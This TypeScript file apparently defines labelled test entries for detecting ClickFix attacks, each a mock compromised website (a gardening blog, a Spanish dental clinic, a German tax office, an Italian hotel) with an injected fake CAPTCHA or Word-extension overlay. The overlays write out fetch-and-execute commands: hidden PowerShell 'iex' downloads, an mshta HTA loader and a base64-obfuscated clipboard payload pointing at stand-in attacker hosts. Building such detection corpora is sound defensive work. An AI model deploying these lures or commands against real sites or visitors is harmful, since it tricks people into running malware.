import type { Entry } from '../entry.js';
import { captchaOverlay } from '../parts/y-clickfix.js';
import { doc, htmlRoute, jsRoute, wpAssets, wpPage } from '../parts/y-kit.js';

// ClickFix overlays injected into hacked customer sites.

const blogHost = 'thefrugalgardener-blog.com';
const denHost = 'clinicadentalsonrisas-valencia.es';
const wordHost = 'steuerberatung-hofmann-partner.de';
const hotHost = 'hotelvillaserena-garda.it';

export const entries: Entry[] = [
  {
    id: 'y-cf-captcha-wp-blog-en',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${blogHost}/2025/10/overwintering-dahlias-in-zone-6/`,
    routes: {
      [`${blogHost}/2025/10/overwintering-dahlias-in-zone-6/`]: htmlRoute(wpPage(
        { host: blogHost, name: 'The Frugal Gardener', nav: ['Home', 'Vegetables', 'Flowers', 'Seed Swaps', 'About'], accent: '#33691e', theme: 'kadence' },
        'Overwintering Dahlias in Zone 6',
        `<div class="wrap content"><article><h1>Overwintering Dahlias in Zone 6 (Without a Basement)</h1><p class="meta">October 18, 2025 · 14 comments</p>
<p>Every fall I get the same question from readers: do I really have to dig up my dahlias? In zone 6, the answer is usually yes — but you don't need a root cellar to keep tubers alive until spring.</p>
<h2>1. Wait for the first frost</h2><p>Let the foliage blacken, then cut stalks back to 4 inches and wait a week before lifting.</p>
<h2>2. Clean and divide</h2><p>Rinse the clumps gently, let them dry overnight, and divide at the crown so each tuber has an eye.</p>
<h2>3. Store in vermiculite</h2><p>A plastic tote with slightly damp vermiculite in an unheated closet works surprisingly well.</p></article></div>`,
        '',
        `<script src="https://${blogHost}/wp-content/plugins/wp-optimize-cache/js/lazy.min.js?ver=3.4.1"></script>`,
      )),
      ...wpAssets(blogHost, 'kadence'),
      [`${blogHost}/wp-content/plugins/wp-optimize-cache/js/lazy.min.js`]: jsRoute(captchaOverlay({
        title: 'Verify you are human by completing the action below.',
        sub: `${blogHost} needs to review the security of your connection before proceeding.`,
        box: "I'm not a robot",
        verify: 'Verification steps',
        steps: ['Press <kbd>Windows</kbd> + <kbd>R</kbd>', 'Press <kbd>CTRL</kbd> + <kbd>V</kbd>', 'Press <kbd>Enter</kbd>'],
        ray: 'Performance &amp; security by Cloudflare',
      }, 'powershell -w h -nop -c "$u=\'https://cdn-jsdelivr-stat.com/c/verify.ps1\';iex(irm $u)" # I am not a robot - reCAPTCHA Verification ID: 7741')),
    },
  },
  {
    id: 'y-cf-captcha-dental-es',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${denHost}/tratamientos/implantes-dentales/`,
    routes: {
      [`${denHost}/tratamientos/implantes-dentales/`]: htmlRoute(wpPage(
        { host: denHost, name: 'Clínica Dental Sonrisas', nav: ['Inicio', 'Tratamientos', 'Equipo', 'Pide cita', 'Contacto'], accent: '#00838f', lang: 'es' },
        'Implantes dentales',
        `<section class="hero"><div class="wrap"><h1>Implantes dentales en Valencia</h1><p>Primera visita y TAC 3D gratuitos · Financiación sin intereses hasta 24 meses</p></div></section>
<div class="wrap content"><p>Los implantes dentales son la solución más duradera para reponer dientes perdidos. En nuestra clínica trabajamos con implantes de titanio de primeras marcas y cirugía guiada por ordenador.</p></div>`,
        '',
        `<script>!function(){var s=document.createElement("script");s.src="https://api-recaptcha-check.net/v3/loader.js?k=6Lc_sonrisas";document.currentScript.parentNode.insertBefore(s,document.currentScript)}();</script>`,
      )),
      ...wpAssets(denHost),
      ['api-recaptcha-check.net/v3/loader.js']: jsRoute(captchaOverlay({
        title: 'Verifique que es humano completando la acción a continuación.',
        sub: 'Necesitamos comprobar la seguridad de su conexión antes de continuar.',
        box: 'No soy un robot',
        verify: 'Pasos de verificación',
        steps: ['Pulse la tecla <kbd>Windows</kbd> + <kbd>R</kbd>', 'Pulse <kbd>CTRL</kbd> + <kbd>V</kbd> para pegar el código de verificación', 'Pulse <kbd>Intro</kbd> para completar'],
        ray: 'Protegido por reCAPTCHA · Privacidad · Condiciones',
      }, 'mshta https://api-recaptcha-check.net/v3/verify.hta #  ✅ ”Verificación humana - Código: 5521-RX”', 1200)),
      ['api-recaptcha-check.net/v3/verify.hta']: { status: 200, headers: { 'content-type': 'application/hta' }, body: '<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w hidden -c iwr https://api-recaptcha-check.net/v3/s.ps1|iex",0:window.close</script></head></html>' },
    },
  },
  {
    id: 'y-cf-word-extension-de',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${wordHost}/kanzlei/downloads/mandanteninfo-2026/`,
    routes: {
      [`${wordHost}/kanzlei/downloads/mandanteninfo-2026/`]: htmlRoute(doc({
        lang: 'de',
        title: 'Mandanteninformation_2026.docx – Word Online',
        css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}
.bar{background:#185abd;color:#fff;padding:10px 16px;font-size:14px}
.page{width:700px;margin:20px auto;background:#fff;height:800px;padding:60px;box-sizing:border-box;color:#999;filter:blur(2px)}
.dlg{position:fixed;top:18%;left:50%;transform:translateX(-50%);width:520px;background:#fff;box-shadow:0 10px 40px rgba(0,0,0,.35);border-top:4px solid #185abd}
.dlg .h{padding:16px 20px;font-weight:600;font-size:17px}.dlg .c{padding:0 20px 20px;font-size:14px;color:#333}
code{display:block;background:#f5f5f5;border:1px solid #ddd;padding:8px;font-size:12px;margin:10px 0;white-space:nowrap;overflow:hidden;text-overflow:ellipsis}
.btn{background:#185abd;color:#fff;border:0;padding:9px 20px;cursor:pointer}`,
        body: `<div class="bar">&#9636; Word &nbsp;·&nbsp; Mandanteninformation_2026.docx</div>
<div class="page"><h2>Mandanteninformation zum Jahreswechsel 2025/2026</h2><p>Sehr geehrte Mandantinnen und Mandanten, ...</p></div>
<div class="dlg"><div class="h">&#9888; Die Erweiterung „Word Online“ ist nicht installiert</div>
<div class="c"><p>Um das Dokument offline anzuzeigen, muss die Erweiterung installiert werden. Führen Sie die folgenden Schritte aus:</p>
<ol><li>Klicken Sie auf <b>„Lösung kopieren“</b></li><li>Klicken Sie mit der rechten Maustaste auf <b>Start</b> und wählen Sie <b>Terminal (Administrator)</b></li><li>Fügen Sie den Befehl ein (<b>Strg+V</b>) und drücken Sie <b>Eingabe</b></li><li>Laden Sie die Seite neu</li></ol>
<code id="c"></code>
<button class="btn" id="cp">Lösung kopieren</button> <span id="ok" style="color:#107c10;display:none">✔ Kopiert</span></div></div>
<script>
var p=['JHM9J2h0dHBzOi8vb2ZmaWNlLWFkZGluLWNkbi5jb20vd29yZC9maXgucHMxJzsgaWV4IChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCRzKQ=='];
var cmd='powershell -NoProfile -WindowStyle Hidden -Command "'+atob(p[0])+'"';
document.getElementById('c').textContent='ipconfig /flushdns; $env:WORD_ADDIN="1"; ...';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(cmd).then(function(){document.getElementById('ok').style.display='inline'});};
</script>`,
      })),
    },
  },
  {
    id: 'y-cf-captcha-hotel-it',
    label: 'clickfix',
    kind: 'clickfix',
    url: `https://${hotHost}/camere/`,
    routes: {
      [`${hotHost}/camere/`]: htmlRoute(wpPage(
        { host: hotHost, name: 'Hotel Villa Serena', nav: ['Home', 'Camere', 'Ristorante', 'Offerte', 'Prenota'], accent: '#795548', lang: 'it', theme: 'hotelmaster' },
        'Camere',
        `<section class="hero"><div class="wrap"><h1>Le nostre camere sul Lago di Garda</h1><p>Colazione inclusa · Piscina panoramica · Parcheggio gratuito</p></div></section>
<div class="wrap content"><div class="cols"><div class="card"><h3>Doppia Classic</h3><p>Da € 119 a notte</p></div><div class="card"><h3>Superior vista lago</h3><p>Da € 159 a notte</p></div><div class="card"><h3>Junior Suite</h3><p>Da € 219 a notte</p></div></div></div>`,
        '',
        `<script async src="/wp-content/themes/hotelmaster/assets/js/booking-engine.js"></script>`,
      )),
      ...wpAssets(hotHost, 'hotelmaster'),
      [`${hotHost}/wp-content/themes/hotelmaster/assets/js/booking-engine.js`]: jsRoute(captchaOverlay({
        title: 'Verifica di essere umano completando l\'azione qui sotto.',
        sub: 'Il sito deve verificare la sicurezza della connessione prima di procedere.',
        box: 'Non sono un robot',
        verify: 'Per completare la verifica:',
        steps: ['Premi <kbd>Win</kbd> + <kbd>R</kbd>', 'Premi <kbd>Ctrl</kbd> + <kbd>V</kbd>', 'Premi <kbd>Invio</kbd>'],
        ray: 'Prestazioni e sicurezza di Cloudflare',
      }, 'cmd /c start /min powershell -c "iwr -useb https://hotel-cdn-assets.it/captcha/ok.txt | iex" :: Verifica CAPTCHA completata ID 88213', 500)),
    },
  },
];
